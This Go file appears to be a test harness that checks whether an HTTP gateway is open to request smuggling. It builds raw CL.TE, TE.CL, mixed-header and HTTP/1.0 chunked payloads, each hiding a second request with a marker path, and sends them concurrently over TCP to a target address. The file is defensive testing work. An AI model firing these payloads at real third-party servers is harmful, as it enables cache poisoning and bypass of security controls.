package attack

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"
)

// Smuggle is one request-smuggling attempt: a request whose framing is
// ambiguous, followed on the same connection by a second request whose path
// carries Marker. If the marker path ever reaches the upstream, the gateway
// (or the hop behind it) read the framing the attacker hoped it would.
type Smuggle struct {
	Name   string
	Marker string // the smuggled request's last path segment, e.g. "smuggled-cl-te"
	Raw    []byte
}

// Smuggles are the classic framings, every one with a smuggled GET of
// prefix/<marker>: CL.TE (Content-Length covers the smuggled request, chunked
// ends before it), TE.CL (the chunk holds it, Content-Length ends before it),
// CL and TE agreeing (RFC 9112 §6.1: such a connection must be closed after
// the response, so a pipelined request must not be served), and HTTP/1.0 with
// chunked and keep-alive (§6.1 again: close after the response).
func Smuggles(host, prefix string) []Smuggle {
	smuggled := func(marker string) string {
		return fmt.Sprintf("GET %s/%s HTTP/1.1\r\nHost: %s\r\n\r\n", prefix, marker, host)
	}
	head := func(proto string, extra ...string) string {
		return fmt.Sprintf("POST %s/request %s\r\nHost: %s\r\n%s\r\n", prefix, proto, host, strings.Join(extra, ""))
	}
	var out []Smuggle

	m := "smuggled-cl-te"
	body := "0\r\n\r\n" + smuggled(m)
	out = append(out, Smuggle{Name: "CL.TE", Marker: m, Raw: []byte(
		head("HTTP/1.1", fmt.Sprintf("Content-Length: %d\r\n", len(body)), "Transfer-Encoding: chunked\r\n") + body)})

	m = "smuggled-te-cl"
	s := smuggled(m)
	chunked := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(s), s)
	out = append(out, Smuggle{Name: "TE.CL", Marker: m, Raw: []byte(
		head("HTTP/1.1", "Content-Length: 4\r\n", "Transfer-Encoding: chunked\r\n") + chunked)})

	m = "smuggled-cl-and-te"
	out = append(out, Smuggle{Name: "CL+TE agreeing, pipelined", Marker: m, Raw: []byte(
		head("HTTP/1.1", "Content-Length: 5\r\n", "Transfer-Encoding: chunked\r\n") + "0\r\n\r\n" + smuggled(m))})

	m = "smuggled-http10-te"
	out = append(out, Smuggle{Name: "HTTP/1.0 + chunked + keep-alive", Marker: m, Raw: []byte(
		head("HTTP/1.0", "Connection: keep-alive\r\n", "Transfer-Encoding: chunked\r\n") + "0\r\n\r\n" + smuggled(m))})
	return out
}

// SmuggleResult is what came back on the socket.
type SmuggleResult struct {
	Name   string
	Marker string
	// Codes are the status codes of the responses read, in order.
	Codes []int
	// ClosedByServer: the server closed the connection within the wait.
	ClosedByServer bool
	Took           time.Duration
	Raw            string // first 1 KiB received
	Err            string
}

// Try sends one attempt to addr and reads what comes back until the server
// closes the connection or wait has passed.
func Try(ctx context.Context, addr string, s Smuggle, wait time.Duration) SmuggleResult {
	r := SmuggleResult{Name: s.Name, Marker: s.Marker}
	start := time.Now()
	d := net.Dialer{Timeout: dialTimeout}
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		r.Err = err.Error()
		return r
	}
	defer conn.Close()
	_ = conn.SetDeadline(start.Add(wait))
	if _, err := conn.Write(s.Raw); err != nil {
		r.Err = err.Error()
	}
	var got []byte
	buf := make([]byte, 4096)
	for len(got) < 64<<10 {
		n, err := conn.Read(buf)
		got = append(got, buf[:n]...)
		if err != nil {
			if ne, ok := err.(net.Error); !ok || !ne.Timeout() {
				r.ClosedByServer = true
			}
			break
		}
	}
	r.Took = time.Since(start)
	r.Codes = responses(got)
	r.Raw = string(got[:min(len(got), 1024)])
	return r
}

// TryAll sends every attempt rounds times (the attempts of a round at once)
// and returns every result.
func TryAll(ctx context.Context, addr string, ss []Smuggle, rounds int, wait time.Duration) []SmuggleResult {
	var out []SmuggleResult
	for range rounds {
		res := make([]SmuggleResult, len(ss))
		var wg sync.WaitGroup
		for i, s := range ss {
			wg.Add(1)
			go func() { defer wg.Done(); res[i] = Try(ctx, addr, s, wait) }()
		}
		wg.Wait()
		out = append(out, res...)
		if ctx.Err() != nil {
			break
		}
	}
	return out
}
